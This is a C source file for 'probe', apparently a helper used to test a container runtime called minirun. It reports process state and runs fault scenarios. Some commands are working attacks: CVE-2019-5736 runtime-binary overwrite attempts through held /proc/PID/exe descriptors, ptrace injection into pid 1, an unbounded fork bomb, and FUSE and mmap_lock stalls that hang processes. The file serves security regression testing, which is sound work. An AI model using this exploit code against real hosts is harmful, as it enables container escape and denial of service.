// probe: a static helper copied into test rootfs; it reports from inside a
// container (key=value lines) or does one thing a test needs (like crun's
// tests/init.c).  Usage: probe <command> [args]
//   report            pid, ppid, ids, groups, umask, cwd, hostname, caps,
//                     NoNewPrivs, Seccomp, fds, rlimits, uid_map
//   env               the environment, one per line
//   mounts            /proc/self/mountinfo
//   exit N            exit with status N
//   kill-self SIG     raise SIG
//   sleep SECS        sleep, reporting "ready" first
//   signals           print the name of each signal received until SIGTERM
//   memhog MB         allocate and touch MB MiB (to be OOM-killed)
//   sigdfl PROG ARGS  exec PROG with SIGPIPE at its default (on the host: the
//                     test harness ignores it, and children inherit that)
//   forkbomb N        try to fork N sleeping children; print how many worked
//   forkstorm         every process forks forever (bounded by pids.max)
//   zombies N         fork N children that exit, never reap them, pause
//   vfork-hang        vfork a child that never execs: the parent stays in D
//   fuse-stall DIR    mount a FUSE file system on DIR with one file, "f", and
//                     serve it, except that no READ is ever answered: a
//                     stuck NFS or FUSE server.  Prints "ready"; runs until
//                     killed (the kernel then fails the pending reads)
//   mmap-lock-stall PATH  map PATH (a fuse-stall file) and fork a child that
//                     maps and unmaps forever; read the child's /proc/PID/mem
//                     at the mapping: that read waits for the server with the
//                     child's mmap_lock held, so the child waits (D) for it
//                     and every reader of its cmdline (ps -ef) waits too.
//                     Prints "ready CHILD", then pauses
//   spin MS           busy-loop for MS ms of wall time; print cpu ms used
//   open PATH MODE    open PATH (r|w); print "ok" or the errno name
//   mkdir PATH        mkdir; print "ok" or the errno name
//   syscall NR        syscall(NR, 0...); print "ok" or the errno name
//   read PATH         print the file's content
//   count             print an increasing counter every 100 ms
//   cpus              print Cpus_allowed_list
//   sched             scheduler policy, nice, ioprio, personality, oom_score_adj
//   clocks            monotonic= and boottime= seconds
//   errno-mkdir PATH [MODE]  mkdir (octal mode, default 755); print "ok" or the errno number
//   exe-attack        make /etc/passwd 40 MB, catch the `minirun exec` helper
//                     reading it, stop it, try its /proc/PID/exe and fds,
//                     report, then let it go on
//   init-exe-attack OUT   hold /proc/1/exe (a created container's init), wait
//                     for pid 1 to exec, then write through the held fd
//   shebang-attack FIFO OUT  wait for a process named "evil" (a minirun run as
//                     the interpreter of #!/proc/self/exe, blocked on FIFO as
//                     its --log), hold its exe, release it, write through it
//   ptrace-inject DIR  attach to pid 1 and make it mkdir DIR (x86_64)
//   mount-proc DIR    mount a new proc on DIR; print "ok" or the errno name
//   ping ADDR         one ICMP echo over an ICMP datagram socket (what a
//                     ping without CAP_NET_RAW uses, allowed by
//                     net.ipv4.ping_group_range); print "ok" or the errno name
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <arpa/inet.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/syscall.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <linux/fuse.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void print_file_lines(const char* path, const char* prefix, const char* only) {
  FILE* f = fopen(path, "r");
  if (!f) return;
  char line[4096];
  while (fgets(line, sizeof line, f)) {
    if (only && strncmp(line, only, strlen(only)) != 0) continue;
    printf("%s%s", prefix, line);
  }
  fclose(f);
}

static const char* errno_name(int e) {
  switch (e) {
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EACCES: return "EACCES";
    case EROFS: return "EROFS";
    case EEXIST: return "EEXIST";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case ENOSYS: return "ENOSYS";
    case EAGAIN: return "EAGAIN";
    case ENXIO: return "ENXIO";
    case ETXTBSY: return "ETXTBSY";
    case ESRCH: return "ESRCH";
    case ENODEV: return "ENODEV";
    case EINVAL: return "EINVAL";
    default: return "EOTHER";
  }
}

static int report(void) {
  printf("pid=%d\nppid=%d\n", getpid(), getppid());
  printf("uid=%d\ngid=%d\neuid=%d\n", getuid(), getgid(), geteuid());
  gid_t groups[64];
  int n = getgroups(64, groups);
  printf("groups=");
  for (int i = 0; i < n; i++) printf("%s%d", i ? "," : "", groups[i]);
  printf("\n");
  mode_t m = umask(0);
  umask(m);
  printf("umask=%04o\n", m);
  char buf[4096];
  printf("cwd=%s\n", getcwd(buf, sizeof buf) ? buf : "?");
  gethostname(buf, sizeof buf);
  printf("hostname=%s\n", buf);
  getdomainname(buf, sizeof buf);
  printf("domainname=%s\n", buf);
  print_file_lines("/proc/self/status", "", "Cap");
  print_file_lines("/proc/self/status", "", "NoNewPrivs");
  print_file_lines("/proc/self/status", "", "Seccomp:");
  printf("fds=");
  DIR* d = opendir("/proc/self/fd");
  int first = 1;
  int dfd = d ? dirfd(d) : -1;
  struct dirent* e;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] == '.' || atoi(e->d_name) == dfd) continue;
    printf("%s%s", first ? "" : ",", e->d_name);
    first = 0;
  }
  if (d) closedir(d);
  printf("\n");
  struct rlimit rl;
  getrlimit(RLIMIT_NOFILE, &rl);
  printf("nofile=%llu:%llu\n", (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max);
  getrlimit(RLIMIT_NPROC, &rl);
  printf("nproc=%llu:%llu\n", (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max);
  print_file_lines("/proc/self/uid_map", "uid_map=", NULL);
  print_file_lines("/proc/self/gid_map", "gid_map=", NULL);
  return 0;
}

static volatile sig_atomic_t last_signal;
static void on_signal(int s) { last_signal = s; }

static int signals_loop(void) {
  // Signals stay blocked except inside sigsuspend: one arriving while we
  // print cannot be lost before we wait again (pause() would miss it).
  sigset_t all, none;
  sigfillset(&all);
  sigemptyset(&none);
  sigprocmask(SIG_BLOCK, &all, NULL);
  for (int s = 1; s < 32; s++)
    if (s != SIGKILL && s != SIGSTOP) signal(s, on_signal);
  printf("ready\n");
  fflush(stdout);
  for (;;) {
    sigsuspend(&none);
    int s = last_signal;
    last_signal = 0;
    if (s) {
      printf("signal=%s\n", strsignal(s));
      fflush(stdout);
    }
    if (s == SIGTERM) return 0;
  }
}

static int memhog(long mb) {
  for (long i = 0; i < mb; i++) {
    char* p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
      printf("mmap failed at %ld MiB\n", i);
      return 1;
    }
    memset(p, 1, 1 << 20);
  }
  printf("allocated %ld MiB\n", mb);
  return 0;
}

static int forkbomb(int n) {
  int ok = 0;
  for (int i = 0; i < n; i++) {
    pid_t p = fork();
    if (p == 0) {
      sleep(30);
      _exit(0);
    }
    if (p < 0) break;
    ok++;
  }
  printf("forked=%d\n", ok);
  fflush(stdout);
  kill(0, SIGKILL);
  return 0;
}

// A fork bomb that never stops: every process forks forever, as many as
// pids.max lets live at once; the ones refused retry.
static int forkstorm(void) {
  printf("storming\n");
  fflush(stdout);
  for (;;) fork();
  return 0;
}

// n children that exit at once and are never reaped: n zombies.
static int zombies(int n) {
  int made = 0;
  for (int i = 0; i < n; i++) {
    pid_t p = fork();
    if (p == 0) _exit(0);
    if (p > 0) made++;
  }
  printf("zombies=%d\n", made);
  fflush(stdout);
  for (;;) pause();
  return 0;
}

// The parent of a vfork child that never execs nor exits waits for it in
// TASK_KILLABLE: state D (uninterruptible sleep), which only SIGKILL ends.
static int vfork_hang(void) {
  printf("vforking\n");
  fflush(stdout);
  pid_t p = vfork();
  if (p == 0) {
    for (;;) syscall(SYS_pause);  // raw syscalls only: the parent's stack is ours
  }
  return p < 0 ? 1 : 0;
}

// One request from /dev/fuse answered with `len` bytes of `body` (or an
// error, when err < 0).
static void fuse_reply(int fd, uint64_t unique, int err, const void* body, size_t len) {
  char buf[sizeof(struct fuse_out_header) + 256];
  struct fuse_out_header* h = (struct fuse_out_header*)buf;
  if (err < 0 || len > 256) len = 0;
  h->len = (uint32_t)(sizeof *h + len);
  h->error = err;
  h->unique = unique;
  if (len) memcpy(buf + sizeof *h, body, len);
  if (write(fd, buf, h->len) < 0) perror("fuse write");
}

static void fuse_file_attr(struct fuse_attr* a, uint64_t ino) {
  memset(a, 0, sizeof *a);
  a->ino = ino;
  a->mode = ino == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0644;
  a->nlink = 1;
  a->size = ino == FUSE_ROOT_ID ? 0 : 65536;
  a->blocks = a->size / 512;
  a->blksize = 4096;
}

static int fuse_stall(const char* dir) {
  int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
  if (fd < 0) return perror("open /dev/fuse"), 1;
  char opts[128];
  snprintf(opts, sizeof opts, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd);
  if (mount("probe", dir, "fuse.probe", MS_NOSUID | MS_NODEV, opts) != 0) return perror("mount fuse"), 1;
  printf("ready\n");
  fflush(stdout);
  static char req[FUSE_MIN_READ_BUFFER + 65536];
  for (;;) {
    ssize_t n = read(fd, req, sizeof req);
    if (n < 0 && (errno == EINTR || errno == ENOENT)) continue;
    if (n < (ssize_t)sizeof(struct fuse_in_header)) return 0;  // unmounted
    struct fuse_in_header* in = (struct fuse_in_header*)req;
    const char* arg = req + sizeof *in;
    switch (in->opcode) {
      case FUSE_INIT: {
        const struct fuse_init_in* i = (const struct fuse_init_in*)arg;
        struct fuse_init_out o;
        memset(&o, 0, sizeof o);
        o.major = FUSE_KERNEL_VERSION;
        o.minor = i->minor < FUSE_KERNEL_MINOR_VERSION ? i->minor : FUSE_KERNEL_MINOR_VERSION;
        o.max_readahead = 4096;
        o.max_write = 4096;
        fuse_reply(fd, in->unique, 0, &o, sizeof o);
        break;
      }
      case FUSE_LOOKUP: {
        if (strcmp(arg, "f") != 0) {
          fuse_reply(fd, in->unique, -ENOENT, NULL, 0);
          break;
        }
        struct fuse_entry_out e;
        memset(&e, 0, sizeof e);
        e.nodeid = 2;
        e.attr_valid = e.entry_valid = 3600;
        fuse_file_attr(&e.attr, 2);
        fuse_reply(fd, in->unique, 0, &e, sizeof e);
        break;
      }
      case FUSE_GETATTR: {
        struct fuse_attr_out a;
        memset(&a, 0, sizeof a);
        a.attr_valid = 3600;
        fuse_file_attr(&a.attr, in->nodeid);
        fuse_reply(fd, in->unique, 0, &a, sizeof a);
        break;
      }
      case FUSE_OPEN:
      case FUSE_OPENDIR: {
        struct fuse_open_out o;
        memset(&o, 0, sizeof o);
        o.fh = 1;
        fuse_reply(fd, in->unique, 0, &o, sizeof o);
        break;
      }
      case FUSE_STATFS: {  // mount flags are read with statfs(2)
        struct fuse_statfs_out st;
        memset(&st, 0, sizeof st);
        st.st.bsize = st.st.frsize = 4096;
        st.st.namelen = 255;
        fuse_reply(fd, in->unique, 0, &st, sizeof st);
        break;
      }
      case FUSE_READ:  // the stuck server: never answered
        break;
      case FUSE_FORGET:
      case FUSE_BATCH_FORGET:  // no reply expected
        break;
      case FUSE_FLUSH:
      case FUSE_RELEASE:
      case FUSE_RELEASEDIR:
        fuse_reply(fd, in->unique, 0, NULL, 0);
        break;
      default:
        fuse_reply(fd, in->unique, -ENOSYS, NULL, 0);
    }
  }
}

static int mmap_lock_stall(const char* path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return perror("open"), 1;
  char* map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  if (map == MAP_FAILED) return perror("mmap"), 1;
  pid_t child = fork();
  if (child < 0) return perror("fork"), 1;
  if (child == 0) {  // wants its mmap_lock for writing, forever
    for (;;) {
      void* p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
      if (p != MAP_FAILED) munmap(p, 4096);
    }
  }
  char mem[64];
  snprintf(mem, sizeof mem, "/proc/%d/mem", child);
  int mfd = open(mem, O_RDONLY | O_CLOEXEC);
  if (mfd < 0) return perror("open /proc/CHILD/mem"), 1;
  printf("ready %d\n", child);
  fflush(stdout);
  // The read faults the stuck file in with the child's mmap_lock held.
  char c;
  if (pread(mfd, &c, 1, (off_t)(uintptr_t)map) < 0) perror("pread");
  for (;;) pause();
}

static int sched_report(void) {
  int policy = sched_getscheduler(0);
  const char* names[] = {"SCHED_OTHER", "SCHED_FIFO", "SCHED_RR",      "SCHED_BATCH",
                         "SCHED_ISO",   "SCHED_IDLE", "SCHED_DEADLINE"};
  printf("reset_on_fork=%d\n", policy >= 0 && (policy & 0x40000000) ? 1 : 0);
  if (policy >= 0) policy &= ~0x40000000;
  printf("policy=%s\n", policy >= 0 && policy < 7 ? names[policy] : "?");
  struct sched_param sp;
  sched_getparam(0, &sp);
  printf("priority=%d\n", sp.sched_priority);
  errno = 0;
  printf("nice=%d\n", getpriority(PRIO_PROCESS, 0));
  long io = syscall(SYS_ioprio_get, 1, 0);
  printf("ioprio_class=%ld\nioprio_level=%ld\n", io >> 13, io & 0xff);
  printf("personality=0x%x\n", personality(0xffffffff));
  print_file_lines("/proc/self/oom_score_adj", "oom_score_adj=", NULL);
  print_file_lines("/proc/self/status", "", "Cpus_allowed_list");
  return 0;
}

// The pid of a process named `comm` other than us, or 0.
static pid_t find_process(const char* comm) {
  DIR* d = opendir("/proc");
  pid_t found = 0;
  struct dirent* e;
  while (d && !found && (e = readdir(d))) {
    pid_t pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    char path[64], name[64] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    FILE* f = fopen(path, "r");
    if (!f) continue;
    if (fgets(name, sizeof name, f)) name[strcspn(name, "\n")] = 0;
    fclose(f);
    if (!strcmp(name, comm)) found = pid;
  }
  if (d) closedir(d);
  return found;
}

static const char* try_open(const char* path, int flags) {
  int fd = open(path, flags);
  if (fd < 0) return errno_name(errno);
  close(fd);
  return "ok";
}

// CVE-2019-5736: while `minirun exec` sets up, its helper is in our pid ns.
// The helper reads /etc/passwd (for --user NAME): a 40 MB one keeps it busy
// long enough to catch it and stop it (SIGSTOP) while we try its
// /proc/PID/exe and fds; then it goes on.
static int exe_attack(void) {
  rename("/etc/passwd", "/etc/passwd.real");
  FILE* big = fopen("/etc/passwd", "w");
  if (!big) {
    printf("passwd=%s\n", errno_name(errno));
    return 1;
  }
  for (int i = 0; i < 400000; i++) fprintf(big, "filler%06d:x:%d:%d:filler user for the attack test:/:/bin/sh\n", i, 2000, 2000);
  FILE* real = fopen("/etc/passwd.real", "r");
  char buf[4096];
  size_t n;
  while (real && (n = fread(buf, 1, sizeof buf, real)) > 0) fwrite(buf, 1, n, big);
  if (real) fclose(real);
  fclose(big);
  printf("ready\n");
  fflush(stdout);
  pid_t pid = 0;
  for (long i = 0; i < 2000000 && !(pid = find_process("minirun")); i++) {
  }
  if (pid) kill(pid, SIGSTOP);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  printf("helper=%s\n", pid ? "found" : "missing");
  printf("exe_write=%s\n", try_open(path, O_WRONLY));
  printf("exe_read=%s\n", try_open(path, O_RDONLY));
  printf("exe_path=%s\n", try_open(path, O_PATH));
  snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
  printf("fd_open=%s\n", try_open(path, O_PATH));
  snprintf(path, sizeof path, "/proc/%d/root", pid);
  printf("root_open=%s\n", try_open(path, O_PATH));
  fflush(stdout);
  if (pid) kill(pid, SIGCONT);
  // Stay the container's init until the helper and its exec'd process are done.
  for (int i = 0; i < 500 && find_process("minirun"); i++) usleep(10000);
  for (int i = 0; i < 500 && find_process("probe"); i++) usleep(10000);
  unlink("/etc/passwd");
  rename("/etc/passwd.real", "/etc/passwd");
  return 0;
}

// Reports into OUT (a file in the container) as key=value lines.
static FILE* open_report(const char* out) {
  FILE* f = fopen(out, "w");
  if (!f) f = stdout;
  setvbuf(f, NULL, _IOLBF, 0);
  return f;
}

// Holds `fd` (a process's exe) and tries to open it for writing through
// /proc/self/fd until that works or `seconds` pass; reports the last errno.
static void write_through_held_exe(FILE* rep, int fd, int seconds) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  const char* last = "none";
  for (int i = 0; i < seconds * 100; i++) {
    int w = open(path, O_WRONLY | O_TRUNC);
    if (w >= 0) {
      (void)!write(w, "pwned\n", 6);
      close(w);
      last = "ok";
      break;
    }
    last = errno_name(errno);
    if (errno != ETXTBSY) break;
    usleep(10000);
  }
  fprintf(rep, "exe_write=%s\n", last);
}

static void read_comm(pid_t pid, char* name, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  name[0] = 0;
  FILE* f = fopen(path, "r");
  if (!f) return;
  if (fgets(name, (int)size, f)) name[strcspn(name, "\n")] = 0;
  fclose(f);
}

// CVE-2019-5736 against a created container: its init is minirun until start.
static int init_exe_attack(const char* out) {
  FILE* rep = open_report(out);
  int fd = open("/proc/1/exe", O_RDONLY);
  fprintf(rep, "exe_open=%s\n", fd >= 0 ? "ok" : errno_name(errno));
  fprintf(rep, "ready\n");
  if (fd < 0) return 0;
  char name[64] = "";
  for (int i = 0; i < 3000; i++) {
    read_comm(1, name, sizeof name);
    if (!strcmp(name, "probe")) break;
    usleep(10000);
  }
  write_through_held_exe(rep, fd, 10);
  return 0;
}

// The same through a script whose interpreter is /proc/self/exe: the kernel
// resolves it in the `minirun exec` helper, which then runs as "evil".
static int shebang_attack(const char* fifo, const char* out) {
  FILE* rep = open_report(out);
  unlink(fifo);
  if (mkfifo(fifo, 0666) != 0) {
    fprintf(rep, "mkfifo=%s\n", errno_name(errno));
    return 1;
  }
  fprintf(rep, "ready\n");
  pid_t pid = 0;
  for (int i = 0; i < 3000 && !(pid = find_process("evil")); i++) usleep(10000);
  fprintf(rep, "interpreter=%s\n", pid ? "found" : "missing");
  if (!pid) return 0;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDONLY);
  fprintf(rep, "exe_open=%s\n", fd >= 0 ? "ok" : errno_name(errno));
  int r = open(fifo, O_RDONLY | O_NONBLOCK);  // lets it go on
  char buf[512];
  for (int i = 0; i < 500 && find_process("evil"); i++) {
    while (r >= 0 && read(r, buf, sizeof buf) > 0) {
    }
    usleep(10000);
  }
  if (fd >= 0) write_through_held_exe(rep, fd, 10);
  return 0;
}

// Makes pid 1 (blocked in a syscall) run mkdir(dir) and reports the result.
static int ptrace_inject(const char* dir) {
#if defined(__x86_64__)
  if (ptrace(PTRACE_ATTACH, 1, 0, 0) != 0) {
    printf("attach=%s\n", errno_name(errno));
    return 0;
  }
  int st;
  waitpid(1, &st, __WALL);
  struct user_regs_struct saved, r;
  ptrace(PTRACE_GETREGS, 1, 0, &saved);
  long insn = ptrace(PTRACE_PEEKTEXT, 1, saved.rip - 2, 0);
  if ((insn & 0xffff) != 0x050f) {  // not just after a `syscall`
    printf("attach=ok\nmkdir=nosyscall\n");
    ptrace(PTRACE_DETACH, 1, 0, 0);
    return 0;
  }
  unsigned long addr = (saved.rsp - 4096) & ~7UL;
  char buf[256] = {0};
  strncpy(buf, dir, sizeof buf - 1);
  for (size_t i = 0; i < sizeof buf; i += 8) {
    long word;
    memcpy(&word, buf + i, sizeof word);
    ptrace(PTRACE_POKEDATA, 1, addr + i, word);
  }
  r = saved;
  r.rax = SYS_mkdir;
  r.orig_rax = (unsigned long)-1;  // no restart of the interrupted call
  r.rdi = addr;
  r.rsi = 0755;
  r.rip = saved.rip - 2;
  ptrace(PTRACE_SETREGS, 1, 0, &r);
  ptrace(PTRACE_SINGLESTEP, 1, 0, 0);
  waitpid(1, &st, __WALL);
  ptrace(PTRACE_GETREGS, 1, 0, &r);
  long rc = (long)r.rax;
  printf("attach=ok\nmkdir=%s\n", rc == 0 ? "ok" : errno_name((int)-rc));
  // Restart the call it was blocked in.
  saved.rip -= 2;
  saved.rax = saved.orig_rax;
  ptrace(PTRACE_SETREGS, 1, 0, &saved);
  ptrace(PTRACE_DETACH, 1, 0, 0);
#else
  (void)dir;
  printf("attach=unsupported\n");
#endif
  return 0;
}

static int write_text(const char* dir, const char* name, const char* text) {
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", dir, name);
  FILE* f = fopen(path, "w");
  if (!f) return -1;
  fputs(text, f);
  return fclose(f);
}

static int devloop(const char* dev, const char* dir) {
  char stop[4096], buf[64];
  snprintf(stop, sizeof stop, "%s/stop", dir);
  long reads = 0, failures = 0;
  const char* first = "none";
  for (;;) {
    int fd = open(dev, O_RDONLY);
    if (fd < 0 || read(fd, buf, sizeof buf) < 0) {
      if (!failures++) first = errno_name(errno);
    }
    if (fd >= 0) close(fd);
    if (++reads == 1 && write_text(dir, "started", "1\n") != 0) return 3;
    if ((reads & 63) == 0 && access(stop, F_OK) == 0) break;
  }
  char result[256];
  snprintf(result, sizeof result, "reads=%ld\nfailures=%ld\nfirst=%s\n", reads, failures, first);
  return write_text(dir, "result", result) == 0 ? 0 : 3;
}

static const char* ping(const char* addr) {
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (inet_pton(AF_INET, addr, &to.sin_addr) != 1) return "EINVAL";
  int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
  if (fd < 0) return errno_name(errno);
  struct icmphdr echo = {.type = ICMP_ECHO};
  echo.un.echo.sequence = htons(1);  // the kernel sets the id and checksum
  if (sendto(fd, &echo, sizeof(echo), 0, (struct sockaddr*)&to, sizeof(to)) < 0) return errno_name(errno);
  struct pollfd p = {.fd = fd, .events = POLLIN};
  if (poll(&p, 1, 3000) != 1) return "timeout";
  struct icmphdr reply;
  if (recv(fd, &reply, sizeof(reply), 0) < (ssize_t)sizeof(reply)) return errno_name(errno);
  return reply.type == ICMP_ECHOREPLY ? "ok" : "not an echo reply";
}

static long now_ms(clockid_t c) {
  struct timespec ts;
  clock_gettime(c, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char* cmd = argc > 1 ? argv[1] : "report";
  if (!strcmp(cmd, "report")) return report();
  if (!strcmp(cmd, "ping") && argc > 2) {
    const char* r = ping(argv[2]);
    puts(r);
    return strcmp(r, "ok") != 0;
  }
  if (!strcmp(cmd, "sigdfl") && argc > 2) {
    signal(SIGPIPE, SIG_DFL);
    execv(argv[2], argv + 2);
    perror(argv[2]);
    return 127;
  }
  if (!strcmp(cmd, "env")) {
    extern char** environ;
    for (char** e = environ; *e; e++) printf("%s\n", *e);
    return 0;
  }
  if (!strcmp(cmd, "mounts")) {
    print_file_lines("/proc/self/mountinfo", "", NULL);
    return 0;
  }
  if (!strcmp(cmd, "exit") && argc > 2) return atoi(argv[2]);
  if (!strcmp(cmd, "kill-self") && argc > 2) {
    signal(atoi(argv[2]), SIG_DFL);
    raise(atoi(argv[2]));
    return 99;
  }
  if (!strcmp(cmd, "sleep") && argc > 2) {
    printf("ready\n");
    fflush(stdout);
    sleep((unsigned)atoi(argv[2]));
    return 0;
  }
  if (!strcmp(cmd, "signals")) return signals_loop();
  if (!strcmp(cmd, "memhog") && argc > 2) return memhog(atol(argv[2]));
  if (!strcmp(cmd, "forkbomb") && argc > 2) return forkbomb(atoi(argv[2]));
  if (!strcmp(cmd, "forkstorm")) return forkstorm();
  if (!strcmp(cmd, "zombies") && argc > 2) return zombies(atoi(argv[2]));
  if (!strcmp(cmd, "vfork-hang")) return vfork_hang();
  if (!strcmp(cmd, "fuse-stall") && argc > 2) return fuse_stall(argv[2]);
  if (!strcmp(cmd, "mmap-lock-stall") && argc > 2) return mmap_lock_stall(argv[2]);
  if (!strcmp(cmd, "spin") && argc > 2) {
    long end = now_ms(CLOCK_MONOTONIC) + atol(argv[2]);
    volatile unsigned long x = 0;
    while (now_ms(CLOCK_MONOTONIC) < end) x++;
    printf("cpu_ms=%ld\n", now_ms(CLOCK_PROCESS_CPUTIME_ID));
    return 0;
  }
  // Spins until this process has used N ms of CPU, however long that takes
  // on a busy host (spin counts wall time, which a loaded CPU shares).
  if (!strcmp(cmd, "burn") && argc > 2) {
    volatile unsigned long x = 0;
    while (now_ms(CLOCK_PROCESS_CPUTIME_ID) < atol(argv[2])) x++;
    printf("cpu_ms=%ld\n", now_ms(CLOCK_PROCESS_CPUTIME_ID));
    return 0;
  }
  if (!strcmp(cmd, "open") && argc > 3) {
    int fd = open(argv[2], argv[3][0] == 'w' ? O_WRONLY : O_RDONLY);
    printf("%s\n", fd >= 0 ? "ok" : errno_name(errno));
    return fd >= 0 ? 0 : 1;
  }
  if (!strcmp(cmd, "mkdir") && argc > 2) {
    int rc = mkdir(argv[2], 0755);
    printf("%s\n", rc == 0 ? "ok" : errno_name(errno));
    return rc == 0 ? 0 : 1;
  }
  if (!strcmp(cmd, "read") && argc > 2) {
    FILE* f = fopen(argv[2], "r");
    if (!f) {
      printf("%s\n", errno_name(errno));
      return 1;
    }
    char buf[4096];
    size_t n;
    while ((n = fread(buf, 1, sizeof buf, f)) > 0) fwrite(buf, 1, n, stdout);
    fclose(f);
    return 0;
  }
  if (!strcmp(cmd, "count")) {
    for (long i = 0;; i++) {
      printf("%ld\n", i);
      fflush(stdout);
      usleep(100000);
    }
  }
  if (!strcmp(cmd, "cpus")) {
    print_file_lines("/proc/self/status", "", "Cpus_allowed_list");
    return 0;
  }
  if (!strcmp(cmd, "sched")) return sched_report();
  if (!strcmp(cmd, "clocks")) {
    printf("monotonic=%ld\nboottime=%ld\n", now_ms(CLOCK_MONOTONIC) / 1000, now_ms(CLOCK_BOOTTIME) / 1000);
    return 0;
  }
  if (!strcmp(cmd, "errno-mkdir") && argc > 2) {
    int rc = mkdir(argv[2], argc > 3 ? (mode_t)strtol(argv[3], NULL, 8) : 0755);
    if (rc == 0) printf("ok\n");
    else printf("%d\n", errno);
    return rc == 0 ? 0 : 1;
  }
  if (!strcmp(cmd, "exe-attack")) return exe_attack();
  if (!strcmp(cmd, "init-exe-attack") && argc > 2) return init_exe_attack(argv[2]);
  if (!strcmp(cmd, "shebang-attack") && argc > 3) return shebang_attack(argv[2], argv[3]);
  if (!strcmp(cmd, "ptrace-inject") && argc > 2) return ptrace_inject(argv[2]);
  // A fresh proc on DIR: EPERM unless a fully visible proc is in this mount ns.
  if (!strcmp(cmd, "mount-proc") && argc > 2) {
    int rc = mount("proc", argv[2], "proc", 0, NULL);
    printf("%s\n", rc == 0 ? "ok" : errno_name(errno));
    return rc == 0 ? 0 : 1;
  }
  // A raw syscall by number (one no profile knows, say): "ok" or the errno name.
  if (!strcmp(cmd, "syscall") && argc > 2) {
    long rc = syscall(strtol(argv[2], NULL, 0), 0, 0, 0, 0, 0, 0);
    printf("%s\n", rc >= 0 ? "ok" : errno_name(errno));
    return rc >= 0 ? 0 : 1;
  }
  // Opens and reads PATH in a loop: DIR/started once it ran, then until
  // DIR/stop exists; DIR/result gets "reads=N failures=M first=ERRNO".
  if (!strcmp(cmd, "devloop") && argc > 3) return devloop(argv[2], argv[3]);
  fprintf(stderr, "probe: unknown command %s\n", cmd);
  return 2;
}
